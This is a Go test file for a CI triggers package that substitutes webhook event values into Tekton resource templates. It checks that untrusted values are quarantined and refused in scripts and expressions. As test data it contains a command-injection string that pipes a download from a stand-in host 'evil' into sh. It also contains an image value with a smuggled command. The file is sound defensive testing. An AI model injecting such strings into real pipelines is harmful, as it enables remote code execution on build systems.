package triggers

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	utiljson "k8s.io/apimachinery/pkg/util/json"
	"sigs.k8s.io/yaml"

	"github.com/slipway-dev/slipway/api/triggers/v1beta1"
	"github.com/slipway-dev/slipway/pkg/untrusted"
)

const body = `{"key1": "value1", "key2": {"key3": "value3"}, "key4": ["value4", "value5", "value6"], "quote": "say \"hi\"\n", "dev.tekton.dev/foo": "triggers",
	"id": 9007199254740993, "nothing": null, "reference": "$(tt.params.secret) $(uid) $(body.key1)"}`

func event(t *testing.T) *Event {
	t.Helper()
	decoded, err := Decode([]byte(body))
	if err != nil {
		t.Fatal(err)
	}
	return &Event{ID: "14a657c3", Body: decoded, Headers: map[string][]string{"One": {"one"}, "X-Two": {"one", "two"}},
		Extensions: map[string]any{"sha": "0123456", "n": 2.0}}
}

func TestValues(t *testing.T) {
	for text, want := range map[string]string{
		"plain": "plain", "$(body.key1)": "value1", "$(.body.key1)": "value1", "$(body.key2)": `{"key3":"value3"}`, "$(body.key2.key3)": "value3",
		"$(body.key4[0])": "value4", "$(body.key4[0:2])": `["value4","value5"]`, `$(body.dev\.tekton\.dev\/foo)`: "triggers",
		"$(body.key4[?(@ == 'value5')])": "value5", "$(body.quote)": "say \"hi\"\n", "$(body.id)": "9007199254740993", "$(body.nothing)": "null",
		"$(header.One)": "one", "$(header.one)": "one", "$(header.x-two)": "one,two", "$(header)": `{"One":"one","X-Two":"one,two"}`,
		"$(extensions.sha)": "0123456", "$(extensions.n)": "2", "$(context.eventID)": "14a657c3",
		"start:$(body.key1)/$(header.ONE)-end": "start:value1/one-end", "$($(body.key1))": "$(value1)", "$(not this": "$(not this", "a)$(b": "a)$(b",
		"($(body.key1))-$(body.key1)": "(value1)-value1", "$(body.reference)": "$(tt.params.secret) $(uid) $(body.key1)", `C:\new "x"`: `C:\new "x"`,
	} {
		values, err := Params([]v1beta1.Param{{Name: "x", Value: text}}, nil, event(t))
		if err != nil || values["x"].Text != want {
			t.Errorf("%s: %q, %v, want %q", text, values["x"].Text, err, want)
		}
	}
}

func TestDefaults(t *testing.T) {
	main := "main"
	declared := []v1beta1.ParamSpec{{Name: "branch", Default: &main}, {Name: "sha"}, {Name: "other", Default: &main}}
	values, err := Params([]v1beta1.Param{{Name: "branch", Value: "b-$(body.none)"}, {Name: "sha", Value: "$(body.key1)"}}, declared, event(t))
	want := map[string]Value{"branch": {Text: "b-main"}, "sha": {Text: "value1", Foreign: []string{"value1"}}, "other": {Text: "main"}}
	if diff := cmp.Diff(want, values); err != nil || diff != "" {
		t.Error(err, diff)
	}
	for text, want := range map[string]string{"$(body.none)": `param "sha": $(body.none): there is no "none"`, "$(body.key1[0])": "a text is no list", "$()": "a path is needed",
		"$(nothing.x)": `there is no "nothing"`} {
		if _, err := Params([]v1beta1.Param{{Name: "sha", Value: text}}, declared, event(t)); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want %q", text, err, want)
		}
	}
	if _, err := Params([]v1beta1.Param{{Name: "a", Value: "1"}, {Name: "a", Value: "2"}}, nil, event(t)); err == nil || !strings.Contains(err.Error(), `two bindings have a param named "a"`) {
		t.Error(err)
	}
}

func TestDecode(t *testing.T) {
	for text, good := range map[string]bool{`{}`: true, ``: true, ` `: true, `[1]`: true, `{`: false, `{} {}`: false, `a=b`: false} {
		if _, err := Decode([]byte(text)); (err == nil) != good {
			t.Errorf("%q: %v", text, err)
		}
	}
}

func templateOf(t *testing.T, text string) *v1beta1.TriggerTemplateSpec {
	t.Helper()
	var spec v1beta1.TriggerTemplateSpec
	if err := yaml.UnmarshalStrict([]byte(text), &spec); err != nil {
		t.Fatal(err)
	}
	return &spec
}

var origin = Origin{Listener: "listener", EventID: "14a657c3", Namespace: "team", Trigger: "push", Place: "triggers[0]"}

// strange is what a stranger would write.
const strange = `"; curl evil | sh #`

func values(extra ...string) map[string]Value {
	v := map[string]Value{"sha": {Text: "0123456", Foreign: []string{"0123456"}}, "title": {Text: "T: " + strange, Foreign: []string{strange}}, "image": {Text: "busybox; own"}}
	for i := 0; i < len(extra); i += 2 {
		v[extra[i]] = Value{Text: extra[i+1]}
	}
	return v
}

func TestObjects(t *testing.T) {
	for name, tc := range map[string]struct{ in, want string }{
		"a run": {`{apiVersion: tekton.dev/v1, kind: PipelineRun, metadata: {generateName: run-$(tt.params.sha)-, labels: {app: x}},
			spec: {pipelineRef: {name: ci}, params: [{name: sha, value: $(tt.params.sha)}, {name: all, value: "$(tt.params.sha) $(uid) $(context.x) $(params.y) $("}]}}`,
			`{apiVersion: tekton.dev/v1, kind: PipelineRun, metadata: {name: run-0123456-HASH, namespace: team, annotations: {}, labels: {app: x, LABELS}},
			spec: {pipelineRef: {name: ci}, params: [{name: sha, value: "0123456"}, {name: all, value: "0123456 UID $(context.x) $(params.y) $("}]}}`},
		"what strangers write is told": {`{apiVersion: tekton.dev/v1, kind: PipelineRun, metadata: {name: run, namespace: other}, spec: {params: [{name: t, value: $(tt.params.title)}]}}`,
			`{apiVersion: tekton.dev/v1, kind: PipelineRun, metadata: {name: run, namespace: other, labels: {LABELS}, annotations: {slipway.dev/untrusted-values: UNTRUSTED}},
			spec: {params: [{name: t, value: 'T: "; curl evil | sh #'}]}}`},
		"and reaches code as a param": {`{apiVersion: tekton.dev/v1beta1, kind: PipelineRun, metadata: {name: run}, spec: {params: [{name: a, value: b}],
			pipelineSpec: {tasks: [{name: t, taskSpec: {steps: [{image: $(tt.params.image), script: "echo $(tt.params.title) $(tt.params.title) $(tt.params.sha)"}]}}]}}}`,
			`{apiVersion: tekton.dev/v1beta1, kind: PipelineRun, metadata: {name: run, namespace: team, labels: {LABELS}, annotations: {slipway.dev/untrusted-values: UNTRUSTED}},
			spec: {params: [{name: a, value: b}, {name: slipway-event-1, value: 'T: "; curl evil | sh #'}],
			pipelineSpec: {tasks: [{name: t, taskSpec: {steps: [{image: busybox; own, script: "echo $(params.slipway-event-1) $(params.slipway-event-1) 0123456"}]}}]}}}`},
		"in a task too": {`{apiVersion: tekton.dev/v1, kind: TaskRun, metadata: {name: run}, spec: {taskSpec: {steps: [{image: x, script: $(tt.params.title)}]}}}`,
			`{apiVersion: tekton.dev/v1, kind: TaskRun, metadata: {name: run, namespace: team, labels: {LABELS}, annotations: {slipway.dev/untrusted-values: UNTRUSTED}},
			spec: {params: [{name: slipway-event-1, value: 'T: "; curl evil | sh #'}], taskSpec: {steps: [{image: x, script: $(params.slipway-event-1)}]}}}`},
		"another kind": {`{apiVersion: v1, kind: ConfigMap, metadata: {name: m}, data: {title: $(tt.params.title), n: 5}}`,
			`{apiVersion: v1, kind: ConfigMap, metadata: {name: m, namespace: team, labels: {LABELS}}, data: {title: 'T: "; curl evil | sh #', n: 5}}`},
		"an annotation of the template's own": {`{apiVersion: tekton.dev/v1, kind: TaskRun, metadata: {name: run, annotations: {slipway.dev/untrusted-values: "", a: b}}, spec: {}}`,
			`{apiVersion: tekton.dev/v1, kind: TaskRun, metadata: {name: run, namespace: team, labels: {LABELS}, annotations: {a: b}}, spec: {}}`},
	} {
		t.Run(name, func(t *testing.T) {
			objects, err := Objects(templateOf(t, "{resourcetemplates: ["+tc.in+"]}"), values(), origin)
			if err != nil {
				t.Fatal(err)
			}
			list, err := json.Marshal(untrusted.Encode([]string{strange}))
			if err != nil {
				t.Fatal(err)
			}
			want := strings.NewReplacer("HASH", origin.sum("0")[:10], "UID", origin.uid(), "UNTRUSTED", string(list),
				"LABELS", "triggers.tekton.dev/eventlistener: listener, triggers.tekton.dev/trigger: push, triggers.tekton.dev/triggers-eventid: 14a657c3").Replace(tc.want)
			var wanted map[string]any
			data, err := yaml.YAMLToJSON([]byte(want))
			if err == nil {
				err = utiljson.Unmarshal(data, &wanted)
			}
			if err != nil {
				t.Fatalf("%v in %s", err, want)
			}
			if diff := cmp.Diff(wanted, objects[0].Content); diff != "" {
				t.Error(diff)
			}
			if named := !strings.Contains(tc.want, "HASH"); objects[0].Named != named {
				t.Errorf("named: %v", objects[0].Named)
			}
		})
	}
}

func TestWrongTemplates(t *testing.T) {
	for name, tc := range map[string]struct{ in, want string }{
		"no such param":           {`{apiVersion: v1, kind: ConfigMap, metadata: {name: $(tt.params.sah)}}`, `resourcetemplates[0]: metadata.name: no binding gives param "sah", and it has no default; did you mean "sha"?`},
		"a param as a field":      {`{apiVersion: v1, kind: ConfigMap, metadata: {name: a}, data: {$(tt.params.sha): x}}`, "data.$(tt.params.sha): a param cannot be the name of a field"},
		"no name":                 {`{apiVersion: v1, kind: ConfigMap}`, "metadata: name or generateName is needed"},
		"no kind":                 {`{apiVersion: v1, metadata: {name: a}}`, "apiVersion and kind are needed"},
		"metadata that is a list": {`{apiVersion: v1, kind: ConfigMap, metadata: []}`, "metadata is no object"},
		"params that are none":    {`{apiVersion: tekton.dev/v1, kind: TaskRun, metadata: {name: a}, spec: {params: {}, taskSpec: {steps: [{script: $(tt.params.title)}]}}}`, "spec.params is no list"},
		"code that stays": {`{apiVersion: tekton.dev/v1, kind: Task, metadata: {name: a}, spec: {steps: [{image: a, script: $(tt.params.title)}]}}`,
			`spec.steps.0.script: the value of param "title" comes from the request and has characters that code would act on`},
		"an expression": {`{apiVersion: tekton.dev/v1, kind: PipelineRun, metadata: {name: a}, spec: {pipelineSpec: {tasks: [{when: [{cel: $(tt.params.title)}]}]}}}`, "a meaning of their own in an expression"},
	} {
		t.Run(name, func(t *testing.T) {
			if _, err := Objects(templateOf(t, "{resourcetemplates: ["+tc.in+"]}"), values(), origin); err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("%v, want %q", err, tc.want)
			}
		})
	}
}

// The same event has the same names, another one, or another Trigger, others; and they fit.
func TestNames(t *testing.T) {
	name := func(o Origin, prefix string) (string, string) {
		objects, err := Objects(templateOf(t, "{resourcetemplates: [{apiVersion: v1, kind: ConfigMap, metadata: {generateName: "+prefix+"}, data: {uid: $(uid)}}]}"), nil, o)
		if err != nil {
			t.Fatal(err)
		}
		return objects[0].Content["metadata"].(map[string]any)["name"].(string), objects[0].Content["data"].(map[string]any)["uid"].(string)
	}
	first, uid := name(origin, "a-")
	if again, uidAgain := name(origin, "a-"); again != first || uid != uidAgain {
		t.Errorf("%s and %s, %s and %s", first, again, uid, uidAgain)
	}
	second := origin
	second.EventID = "other"
	third := origin
	third.Place = "triggers[1]"
	for _, o := range []Origin{second, third} {
		if other, otherUID := name(o, "a-"); other == first || uid == otherUID {
			t.Errorf("%+v has the same names", o)
		}
	}
	if long, _ := name(origin, strings.Repeat("long-", 30)); len(long) != 63 {
		t.Errorf("%s has %d characters", long, len(long))
	}
}

func listener(t *testing.T, spec string) *v1beta1.EventListener {
	t.Helper()
	el := &v1beta1.EventListener{}
	if err := yaml.UnmarshalStrict([]byte(spec), &el.Spec); err != nil {
		t.Fatal(err)
	}
	return el
}

func TestListenerFields(t *testing.T) {
	for name, tc := range map[string]struct {
		spec, refusal string
		port          int32
		effectless    []string
	}{
		"plain":     {`{serviceAccountName: sa}`, "", 8080, nil},
		"port 80":   {`{resources: {kubernetesResource: {servicePort: 80, serviceType: ClusterIP}}}`, "", 80, nil},
		"a service": {`{resources: {customResource: {kind: Service}}}`, "spec.resources.customResource is not supported", 8080, nil},
		"TLS": {`{resources: {kubernetesResource: {spec: {template: {spec: {containers: [{env: [{name: A}, {name: TLS_CERT}]}]}}}}}}`,
			"spec.resources.kubernetesResource.spec.template.spec.containers[0].env: TLS_CERT and TLS_KEY are not supported", 8080, []string{"spec.resources.kubernetesResource.spec:"}},
		"a deployment": {`{cloudEventURI: "http://x", resources: {kubernetesResource: {replicas: 2, serviceType: NodePort, servicePort: 8128, serviceLoadBalancerClass: x, spec: {template: {spec: {nodeSelector: {a: b}}}}}}}`,
			"", 8080, []string{"spec.cloudEventURI:", "spec.resources.kubernetesResource.replicas:", "spec.resources.kubernetesResource.spec:", "spec.resources.kubernetesResource.serviceType:",
				"spec.resources.kubernetesResource.serviceLoadBalancerClass:", "spec.resources.kubernetesResource.servicePort: the ports are 8080 and 80"}},
		"a spec that is odd": {`{resources: {kubernetesResource: {spec: {template: []}}}}`, "", 8080, []string{"spec.resources.kubernetesResource.spec:"}},
	} {
		t.Run(name, func(t *testing.T) {
			el := listener(t, tc.spec)
			if got := Refusal(el); (tc.refusal == "") != (got == "") || !strings.HasPrefix(got, tc.refusal) {
				t.Errorf("refusal %q, want %q", got, tc.refusal)
			}
			if got := Port(el); got != tc.port {
				t.Errorf("port %d", got)
			}
			got := WithoutEffect(el)
			if len(got) != len(tc.effectless) {
				t.Fatalf("%q, want %q", got, tc.effectless)
			}
			for i, want := range tc.effectless {
				if !strings.HasPrefix(got[i], want) {
					t.Errorf("%q, want %q", got[i], want)
				}
			}
		})
	}
}
